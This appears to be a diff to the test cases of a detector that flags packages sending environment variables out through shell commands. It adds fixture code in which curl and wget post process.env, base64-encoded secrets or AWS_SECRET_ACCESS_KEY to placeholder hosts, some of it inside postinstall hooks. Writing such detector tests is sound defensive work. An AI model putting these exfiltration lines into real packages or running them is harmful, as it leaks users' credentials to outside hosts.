@@ -6,6 +6,13 @@ const hook = (command: string): { 'package.json': object } => ({ 'package.json':
 
 examine(sendsWithACommand, {
   speaks: [
+    {
+      when: 'the environment is written into a command line',
+      files: {
+        'index.js': `require('child_process').execSync('curl -X POST -d "' + Buffer.from(JSON.stringify(process.env)).toString('base64') + '" https://collect.invalid');`,
+      },
+      weight: 'proof',
+    },
     { when: 'the environment is piped into curl', files: run(`cp.exec('env | curl -sd @- https://a.invalid')`), weight: 'proof' },
     { when: 'a hook does so', files: hook('env | curl -sd @- https://a.invalid'), weight: 'proof', says: ['postinstall hook'] },
     { when: 'the environment is substituted', files: hook('curl "https://a.invalid/?$(env | base64 -w0)"') },
@@ -24,6 +31,12 @@ examine(sendsWithACommand, {
     { when: 'a secret variable is in a header', files: hook('wget -q --header "X: ${AWS_SECRET_ACCESS_KEY}" https://a.invalid/') },
   ],
   silent: [
+    {
+      when: 'a download is started in the environment that there is',
+      files: {
+        'index.js': `exports.fetch = address => require('child_process').execSync('curl -fsSL ' + address, { env: process.env });`,
+      },
+    },
     { when: 'a command only inherits the environment', files: run(`cp.spawn('curl', ['https://a.invalid'], { env: process.env })`) },
     { when: 'a build sets variables', files: hook('env CC=clang node-gyp rebuild') },
     { when: 'the environment is shown', files: hook('env | grep npm_') },
